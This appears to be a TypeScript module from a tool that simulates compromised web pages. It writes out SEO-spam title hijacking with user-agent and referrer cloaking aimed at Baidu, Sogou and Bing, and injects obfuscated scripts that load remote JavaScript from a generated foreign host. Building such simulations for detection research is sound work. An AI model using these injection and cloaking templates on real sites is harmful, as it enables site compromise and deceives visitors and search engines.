import { entityEncode } from "../../../site/markup.ts";
import {
  atBodyEnd,
  atHeadEnd,
  fillSpam,
  foreignHost,
  type Infection,
  withMarkup,
} from "./attack.ts";

/** S4: title and metas in character references, the true title kept for the search engine's robot. */
export const takeOverTitle: Infection = (page, attack) => {
  const { random, pack, title } = attack;
  const taken = fillSpam(random.pick(pack.spam.titles), attack);
  const encoded = random.chance(0.5) ? entityEncode(taken) : hexadecimalReferences(taken);
  const cloak = random.pick([
    `if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu") == -1){document.title ="${title}"}`,
    `var r=document.referrer;if(r.indexOf("sogou")<0&&r.indexOf("so.com")<0&&r.indexOf("bing")<0){document.title='${title}';}`,
  ]);
  const metas = ["keywords", "description"]
    .map((name) => `<meta name="${name}" content="${encoded}" />`)
    .join("\n");
  return withMarkup(page, (marked) =>
    marked.replace(
      /<title>[^<]*<\/title>/u,
      () => `<title>${encoded}</title>\n${metas}\n<script>${cloak}</script>`,
    ),
  );
};

/** S5: code that writes what no byte of the page shows. */
export const packScripts: Infection = (page, attack) => {
  const { random } = attack;
  const host = foreignHost(attack);
  const codes = [
    `<script>eval(function(p,a,c,k,e,r){e=String;return p}('0.1("<2 3=\\\\"//${host}/j.js\\\\"></2>")',4,4,'document|write|script|src'.split('|'),0,{}))</script>`,
    `<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"](String.fromCharCode(60,115,99,114,105,112,116,62))</script>`,
    `<script src="https://${host}/tj.js" charset="utf-8"></script>`,
    `<script type="text/javascript">/* sojson.v4 */var _0x${random.integer(1000, 9999)}=["\\u535a\\u5f69"];</script>`,
  ];
  const [head = "", end = ""] = random.some(codes, 2);
  return withMarkup(page, (marked) => atBodyEnd(atHeadEnd(marked, head), end));
};

function hexadecimalReferences(text: string): string {
  return Array.from(
    text,
    (character) => `&#x${character.codePointAt(0)?.toString(16).toUpperCase()};`,
  ).join("");
}
